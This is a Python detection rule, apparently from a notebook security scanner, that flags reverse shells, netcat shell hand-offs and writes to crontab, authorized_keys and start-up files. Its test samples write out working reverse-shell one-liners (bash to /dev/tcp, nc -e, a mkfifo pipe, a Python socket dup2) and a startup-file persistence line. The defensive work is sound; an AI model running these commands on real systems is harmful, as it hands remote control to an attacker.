"""A shell that is handed to someone else, or a foothold that stays.

What it does
------------
Finds reverse shells (``/dev/tcp``, ``nc -e``, a socket duplicated onto standard input), and lines
that write to ``crontab``, ``authorized_keys``, shell or IPython start-up files.

Why it matters
--------------
It gives another machine control, or makes code run again later.

Use instead
-----------
Nothing: remove it.

References
----------
CWE-506, MITRE ATLAS AML.T0072
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from mlsec_nb.code.facts import Facts
from mlsec_nb.code.rule import Call, Hit, Shell, Watch, rule
from mlsec_nb.core.finding import Confidence, Severity
from mlsec_nb.notebook.names.values import Ref, leaves

RULE = rule(
    "MLS280",
    "reverse-shell",
    "The command hands over control, or plants code that runs later.",
    advice="Remove it, and look for what it has left.",
    severity=Severity.CRITICAL,
    confidence=Confidence.MEDIUM,
    references=("CWE-506", "ATLAS AML.T0072"),
    controls=("INFRA-11",),
)
SHELLS = ("sh", "bash", "zsh", "dash", "python", "perl")
NETCATS = ("nc", "ncat", "netcat", "nc.traditional")
STARTUP = re.compile(
    r"authorized_keys|\.(?:bashrc|bash_profile|profile|zshrc)$|\.ipython/[\w/.-]{0,80}startup|"
    r"jupyter_\w{0,20}config|/etc/(?:cron|profile|rc\.local|ld\.so\.preload)|crontab|sitecustomize|\.pth$"
)
WATCH = Watch(programs=("*",), calls=("os.dup2", "socket.socket.connect"))
BAD = (
    "!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "!nc -e /bin/sh 10.0.0.1 4444",
    "!mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f",
    "!echo 'import x' >> ~/.ipython/profile_default/startup/00.py",
    "import os, socket\ns = socket.socket(); s.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)",
)
GOOD = (
    "!nc -z localhost 8080",
    "!crontab -l",
    "!cat ~/.bashrc",
    "!mkdir -p ~/.ssh",
)


def check(event: Shell | Call, facts: Facts) -> Iterator[Hit]:
    """Report redirections to the network, listeners with a shell, and start-up files written to."""
    if isinstance(event, Call):
        sockets = any(
            isinstance(a, Ref) and a.name.startswith("socket.") for v in event.args for a in leaves(v)
        )
        if event.names[0] == "os.dup2" and sockets:
            yield Hit("A socket becomes standard input or output: this is a reverse shell.")
        return
    command = event.command
    argv = command.argv
    line = " ".join([*argv, *(target for _, target in command.redirects)])
    targets = [target for operator, target in command.redirects if operator.startswith((">", "&>"))]
    targets += argv[1:] if command.program in ("tee", "cp", "mv", "install") else []
    if "/dev/tcp/" in line or "/dev/udp/" in line:
        yield Hit("The line connects a shell to another machine.")
    elif command.program in NETCATS and any(_executes(word) for word in argv[1:]):
        yield Hit(f"`{command.program}` hands a shell to another machine.")
    elif command.program in SHELLS and any(c.program in NETCATS for c in event.pipeline.commands):
        yield Hit(f"`{command.program}` runs what comes in over the network.")
    elif command.program == "socat" and re.search(r"exec:", line, re.IGNORECASE):
        yield Hit("`socat` hands a shell to another machine.")
    elif any(STARTUP.search(target) for target in targets):
        yield Hit("The line writes to a file that runs at every start or login.", severity=Severity.HIGH)
    elif command.program == "crontab" and argv[1:] and argv[1] not in ("-l", "-r", "-e", "-u"):
        yield Hit("The line plants a scheduled command.", severity=Severity.HIGH)
    elif "pty.spawn" in line and "socket" in line:
        yield Hit("The line hands a terminal to a socket.")


def _executes(word: str) -> bool:
    return word in ("-e", "-c", "--exec", "--sh-exec") or (bool(re.fullmatch(r"-[a-z]*e[a-z]*", word)))
